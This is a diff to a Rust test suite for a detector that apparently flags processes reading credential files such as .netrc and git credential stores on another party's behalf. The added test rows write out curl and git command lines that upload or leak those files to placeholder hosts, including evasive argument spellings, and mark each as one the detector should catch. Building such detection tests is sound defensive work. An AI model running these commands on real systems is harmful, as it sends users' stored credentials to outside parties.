@@ -312,6 +312,13 @@ fn who_is_told_the_file_reads_it_for_somebody_else() {
         ("curl", &["curl", "-d@/home/a/.netrc", "https://example.com"], NETRC, true),
         ("curl", &["curl", "-F", "a=@/home/a/.netrc;type=text/plain", "https://b"], NETRC, true),
         ("curl", &["curl", "--netrc-file", NETRC, "-T", NETRC, "https://b"], NETRC, true),
+        ("curl", &["curl", "-T.netrc", "https://b"], NETRC, true),
+        ("curl", &["curl", "-T", "{/home/a/.netrc}", "https://b"], NETRC, true),
+        ("curl", &["--netrc-file", "file:///home/a/.netrc"], NETRC, true),
+        ("curl", &["curl", "-A", "--netrc-file", "-T/home/a/.netrc", "https://b"], NETRC, true),
+        ("curl", &["curl", "-A", "--netrc-file", "file:///home/a/.netrc"], NETRC, true),
+        ("git", &["git", "diff", "--no-index", "credential-store", TOKENS], TOKENS, true),
+        ("git", &["git", "commit", "-F.git-credentials"], TOKENS, true),
         ("curl", &["curl", "-n", "https://example.com/netrc"], NETRC, false),
         ("curl", &["curl", "-sn", "--netrc-file", NETRC, "https://example.com"], NETRC, false),
         ("ssh", &["ssh", "-i", "/home/a/.ssh/id_rsa", "host"], "/home/a/.ssh/id_rsa", false),
@@ -335,6 +342,13 @@ fn who_is_told_the_file_reads_it_for_somebody_else() {
         scene.process.argv = argv.iter().map(|&word| word.into()).collect();
         assert_eq!(fires(&mut scene, &read(path)), *expected, "{argv:?}");
     }
+    // What it was told may stand behind what is known of it.
+    let mut scene = Scene::new(Covert);
+    scene.process.exe = "/usr/bin/curl".into();
+    scene.process.argv = ["curl", "-n", "https://b"].map(Into::into).into();
+    assert!(!fires(&mut scene, &read(NETRC)));
+    scene.process.argv_cut = true;
+    assert!(fires(&mut scene, &read(NETRC)));
     // What a link elsewhere leads to is named by the link.
     let mut scene = Scene::new(Covert);
     scene.process.exe = "/usr/bin/curl".into();
